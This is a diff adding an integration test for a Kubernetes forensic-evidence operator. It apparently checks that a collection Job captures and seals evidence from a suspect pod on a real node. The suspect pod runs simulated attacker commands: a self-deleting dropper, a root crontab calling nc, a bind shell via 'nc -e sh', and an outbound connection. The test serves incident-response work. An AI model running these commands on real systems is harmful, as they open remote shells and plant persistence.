@@ -1,0 +1,189 @@
+import { CoreV1Api } from '@kubernetes/client-node';
+import { createConnection, createServer, type Server, type Socket } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
+import { verifyCase } from '../../../src/evidence/verify.js';
+import { createRegistry } from '../../../src/observability/metrics.js';
+import { installCrds } from '../../testenv/crds.js';
+import { startCluster, type Cluster } from '../../testenv/kube.js';
+import { startMinio, type Minio } from '../../testenv/minio.js';
+import { RealNode, buildImages, nodeUnavailable, type Image } from '../../testenv/node.js';
+import { NodePods } from '../../testenv/node-pods.js';
+import { startCaseController } from '../../testenv/operator.js';
+import { OPERATOR_NAMESPACE, operatorKubeConfig } from '../../testenv/rbac.js';
+import { Workloads, type CaseView } from '../../testenv/workload.js';
+import { createSigningKeySecret } from '../collection/helpers.js';
+
+const unavailable = nodeUnavailable();
+if (unavailable) console.warn(`SKIPPED test/integration/node/collection.test.ts: ${unavailable}`);
+
+type SealedView = CaseView & { status?: CaseView['status'] & { artifacts?: { name: string }[] } };
+
+/**
+ * The collection Job for real (issue 11, item 3): the operator contains a suspect pod on the real
+ * node and runs `amber collect` as a Job there, from the image built from the Dockerfile; the
+ * collector reads the containerd-managed container from the host side and streams to MinIO.
+ */
+describe.skipIf(unavailable)('the collection Job on a real node', () => {
+  let cluster: Cluster;
+  let minio: Minio;
+  let node: RealNode;
+  let pods: NodePods;
+  let w: Workloads;
+  let amber: Image;
+  let forward: Forward;
+  let publicKeyPem: string;
+  let operator: Awaited<ReturnType<typeof startCaseController>>;
+
+  beforeAll(async () => {
+    amber = buildImages('amber').amber!;
+    [cluster, minio] = await Promise.all([
+      startCluster({ realNode: true, controllerManager: true }),
+      startMinio(),
+    ]);
+    node = await RealNode.start(cluster, [amber]);
+    // MinIO listens on 127.0.0.1; the Job's pod reaches it at the node's own address.
+    forward = await forwardToLoopback(node.address, Number(new URL(minio.endpoint).port));
+    const admin = cluster.kubeConfig();
+    await installCrds(admin);
+    pods = new NodePods(admin);
+    w = new Workloads(admin);
+    await w.namespace('shop');
+    const opKc = await operatorKubeConfig(cluster);
+    ({ publicKeyPem } = await createSigningKeySecret(admin));
+    await admin.makeApiClient(CoreV1Api).createNamespacedSecret({
+      namespace: OPERATOR_NAMESPACE,
+      body: {
+        metadata: { name: 'amber-s3-credentials' },
+        stringData: { AWS_ACCESS_KEY_ID: minio.accessKey, AWS_SECRET_ACCESS_KEY: minio.secretKey },
+      },
+    });
+    operator = await startCaseController(opKc, {
+      collection: {
+        mode: 'job',
+        image: amber.ref,
+        pollMs: 1_000,
+        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
+      },
+    });
+  }, 20 * 60_000);
+  afterAll(async () => {
+    await operator?.stop();
+    await forward?.close();
+    await node?.stop();
+    await minio?.stop();
+    await cluster?.stop();
+  }, 120_000);
+
+  it('contains the suspect, runs the Job on the node, seals what it did; verify passes', async () => {
+    const peer = await pods.run('shop', 'peer', node.images.busybox!.ref, [
+      'nc',
+      '-lk',
+      '-p',
+      '8080',
+      '-e',
+      'sleep',
+      '3600',
+    ]);
+    const attacker = [
+      'cp /bin/busybox /tmp/.dropper && /tmp/.dropper sleep 3600 &',
+      'sleep 0.5; rm -f /tmp/.dropper',
+      'echo "nameserver 10.9.9.9" > /etc/evil.conf',
+      'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
+      'nc -lk -p 4444 -e sh &',
+      `nc ${peer.status!.podIP} 8080 &`,
+      'echo attacker ready',
+      'exec sleep 3600',
+    ].join('\n');
+    await pods.run('shop', 'suspect', node.images.busybox!.ref, ['sh', '-c', attacker]);
+
+    const started = Date.now();
+    await w.createCase('case-node', {
+      target: { namespace: 'shop', pod: 'suspect' },
+      reason: 'test: dropper on a real node',
+      alert: {
+        rule: 'Drop and execute new binary in container',
+        priority: 'Critical',
+        time: new Date().toISOString(),
+        source: 'syscall',
+      },
+      evidence: {
+        store: { type: 's3', bucket: minio.bucket, endpoint: forward.endpoint, prefix: 'amber/' },
+        retention: { mode: 'GOVERNANCE', days: 1 },
+      },
+    });
+    let kase: SealedView;
+    try {
+      kase = (await w.waitForPhase('case-node', 'Sealed', 180_000)) as SealedView;
+    } finally {
+      const jobPods = await pods.core.listNamespacedPod({ namespace: OPERATOR_NAMESPACE });
+      for (const p of jobPods.items) {
+        console.log(
+          `collection pod ${p.metadata?.name}: ${JSON.stringify(p.status?.containerStatuses?.[0]?.state)}`,
+        );
+        console.log(
+          await pods.core
+            .readNamespacedPodLog({ namespace: OPERATOR_NAMESPACE, name: p.metadata!.name! })
+            .catch(String),
+        );
+      }
+      console.log(JSON.stringify((await w.getCase('case-node')).status, null, 1).slice(0, 6000));
+    }
+    console.log(
+      `job collection on a real node: ForensicCase created -> Sealed in ${Date.now() - started} ms`,
+    );
+
+    const collected = kase.status?.conditions?.find((x) => x.type === 'EvidenceCollected');
+    expect(collected).toMatchObject({ status: 'True', reason: 'Collected' });
+    const store = new S3EvidenceStore({
+      client: minio.client(),
+      bucket: minio.bucket,
+      prefix: 'amber',
+      registry: createRegistry(),
+    });
+    const report = await verifyCase(store.caseLocation('case-node'), {
+      publicKeyPem,
+      s3: {
+        endpoint: minio.endpoint,
+        region: minio.region,
+        forcePathStyle: true,
+        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
+      },
+    });
+    expect(report.ok).toBe(true);
+    const names = (kase.status?.artifacts ?? []).map((a) => a.name);
+    console.log(names.join('\n'));
+    expect(names).toContain('orchestrator/logs/main.log');
+  });
+});
+
+interface Forward {
+  endpoint: string;
+  close(): Promise<void>;
+}
+
+/** A TCP pass-through from `address` (this machine's own) to a listener on 127.0.0.1. */
+async function forwardToLoopback(address: string, port: number): Promise<Forward> {
+  const sockets = new Set<Socket>();
+  const server: Server = createServer((client) => {
+    const upstream = createConnection({ host: '127.0.0.1', port });
+    for (const s of [client, upstream]) {
+      sockets.add(s);
+      s.on('close', () => sockets.delete(s));
+      s.on('error', () => {
+        client.destroy();
+        upstream.destroy();
+      });
+    }
+    client.pipe(upstream).pipe(client);
+  });
+  await new Promise<void>((resolve) => server.listen(0, address, resolve));
+  const { port: listening } = server.address() as { port: number };
+  return {
+    endpoint: `http://${address}:${listening}`,
+    async close() {
+      for (const s of sockets) s.destroy();
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    },
+  };
+}
